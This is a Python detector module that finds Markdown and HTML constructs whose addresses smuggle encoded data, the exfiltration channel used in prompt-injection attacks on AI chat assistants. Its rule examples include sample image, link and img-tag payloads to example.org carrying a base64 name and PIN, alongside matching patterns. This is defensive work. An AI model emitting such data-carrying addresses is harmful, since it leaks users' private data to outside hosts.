"""Find Markdown and HTML whose addresses carry data: images load alone, links by a click."""

import html
import re
from collections.abc import Iterator

from adapters.detectors.exfiltration.address import judge_address
from adapters.detectors.exfiltration.evidence import (
    ChannelRecogniser,
    channel_finding,
    channel_rule,
)
from adapters.detectors.linear_time import Pattern, Subject
from domain.detection.catalogue import RuleInfo
from domain.detection.finding import Finding

_REHBERGER = (
    "https://embracethered.com/blog/posts/2023/chatgpt-webpilot-data-exfil-via-markdown-injection/"
)
_OWASP = "https://genai.owasp.org/llmrisk/llm02-insecure-output-handling/"

_IMAGE = channel_rule(
    "markdown-image-data",
    "MARKDOWN_IMAGE",
    "Markdown image whose address carries data",
    "![…](address) where a parameter, path or host name decodes to text or holds personal data",
    source=_REHBERGER,
    examples=("![chart](https://example.org/c?d=bmFtZT1BZGE7IHBpbj0xMjM0)",),
    near_misses=("![build](https://img.shields.io/badge/build-passing-green)",),
)
_LINK = channel_rule(
    "markdown-link-data",
    "MARKDOWN_LINK",
    "Link whose address carries data",
    "[…](address), <address> or a bare address with a parameter that decodes to text",
    source=_OWASP,
    examples=("[details](https://example.org/r?d=bmFtZT1BZGE7IHBpbj0xMjM0)",),
    near_misses=("[docs](https://docs.example.com/guide?page=2&lang=en)",),
)
_TAG = channel_rule(
    "html-tag-data",
    "HTML_TAG",
    "HTML element whose address carries data",
    "src, href, action, poster, srcset, url() or content of an element with such an address",
    source=_OWASP,
    examples=('<img src="https://example.org/t.gif?d=bmFtZT1BZGE7IHBpbj0xMjM0">',),
    near_misses=('<img src="/static/logo.svg" alt="logo">',),
)

_LINK_WEIGHT = 0.95
_BARE_WEIGHT = 0.8
_ATTRIBUTE = re.compile(
    r"(?i)(?:\b(?:src|href|action|formaction|poster|data|background|srcset|ping|xlink:href|"
    r"cite|manifest)\s*=\s*|url\(\s*|url=)"
    r"(?:\"([^\"]{8,})\"|'([^']{8,})'|([^\s\"'<>)]{8,}))"
)


class MarkupChannels(ChannelRecogniser):
    """Find Markdown images and links, reference definitions, bare addresses and HTML elements."""

    gates = (r"\]\(", r"\]:\s", r"https?://", r"<[A-Za-z]", r"url\(")
    rules: tuple[RuleInfo, ...] = (_IMAGE, _LINK, _TAG)

    def __init__(self) -> None:
        target = (
            r"\(\s{0,3}<?((?:[A-Za-z]{2,8}:)?//[^\n<>\"]{4,}?)>?"
            r"(?:\s+[\"'(][^\n]{0,200}?[\"')])?\s{0,3}\)"
        )
        self._image = Pattern(r"!\[[^\]\n]{0,300}\]" + target)
        self._link = Pattern(r"\[(?:[^\[\]\n]|!\[[^\]\n]*\]\([^)\n]*\))*\]" + target)
        self._definition = Pattern(
            r"(?m)^[ ]{0,3}\[[^\]\n]{1,200}\]:[ \t]{1,4}<?((?:https?:)?//[^\s<>]{4,})>?(?:\s|$)"
        )
        self._element = Pattern(
            r"(?i)<(?:img|iframe|script|link|form|object|embed|video|audio|source|input|"
            r"body|table|td|svg|image|use|a|area|base|meta|frame|style|div|span|picture|"
            r"track|button|portal|bgsound|layer)\b[^<>]*>?|"
            r"style\s*=\s*\"[^\"]*url\([^\"]*\"|\burl\(\s*[\"']?(?:https?:)?//[^)\s]*\)"
        )
        self._bare = Pattern(r"\bhttps?://[^\s<>\"'`\])}|\\]{8,}")

    def scan(self, subject: Subject) -> Iterator[Finding]:
        """Yield the whole construct, so that masking it closes the channel."""
        seen: list[tuple[int, int]] = []
        for info, pattern, weight in (
            (_IMAGE, self._image, 1.0),
            (_LINK, self._link, _LINK_WEIGHT),
            (_LINK, self._definition, _LINK_WEIGHT),
        ):
            for match in pattern.finditer(subject):
                seen.append(match.span(1))
                finding = self._found(info, match.text(1), match.span(), weight)
                if finding is not None:
                    yield finding
        for match in self._element.finditer(subject):
            start, end = match.span()
            seen.append((start, end))
            best = max(
                filter(
                    None,
                    (
                        self._found(_TAG, found, (start, end), 1.0)
                        for found in _addresses(match.text())
                    ),
                ),
                key=lambda finding: finding.score,
                default=None,
            )
            if best is not None:
                yield best
        taken = sorted(seen)
        for match in self._bare.finditer(subject):
            start, end = match.span()
            if not _inside(taken, start):
                finding = self._found(
                    _LINK, match.text().rstrip(".,;:!?"), (start, end), _BARE_WEIGHT
                )
                if finding is not None:
                    yield finding

    def _found(
        self, info: RuleInfo, address: str, span: tuple[int, int], weight: float
    ) -> Finding | None:
        carried = judge_address(html.unescape(address.strip()))
        if carried is None:
            return None
        score = carried.score * weight
        steps = (
            carried.steps if weight == 1.0 else (*carried.steps, ("needs a click", round(score, 3)))
        )
        return channel_finding(
            info,
            *span,
            score,
            f"the address has {carried.reason}",
            decoding=carried.decoding,
            steps=steps,
            attributes={"carries": ", ".join(carried.sensitive)} if carried.sensitive else None,
        )


def _addresses(element: str) -> Iterator[str]:
    for found in _ATTRIBUTE.finditer(element):
        value = next(filter(None, found.groups()))
        for part in value.split(",") if "srcset" in found[0].lower()[:8] else (value,):
            address = part.strip().split(";url=")[-1]
            if "//" in address:
                yield address


def _inside(spans: list[tuple[int, int]], position: int) -> bool:
    return any(start <= position < end for start, end in spans)
